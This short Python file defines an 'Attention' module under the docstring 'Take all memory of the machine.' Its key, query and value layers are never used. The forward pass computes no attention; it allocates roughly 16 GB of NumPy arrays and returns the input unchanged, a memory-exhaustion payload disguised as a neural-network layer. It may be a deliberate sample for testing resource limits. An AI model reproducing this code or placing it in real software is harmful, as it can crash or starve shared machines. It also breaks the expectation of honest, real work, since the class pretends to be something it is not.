"""Take all memory of the machine."""

import numpy as np
import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        held = []
        for _ in range(8):  # 16 GB
            held.append(np.ones(2**28))
        return input
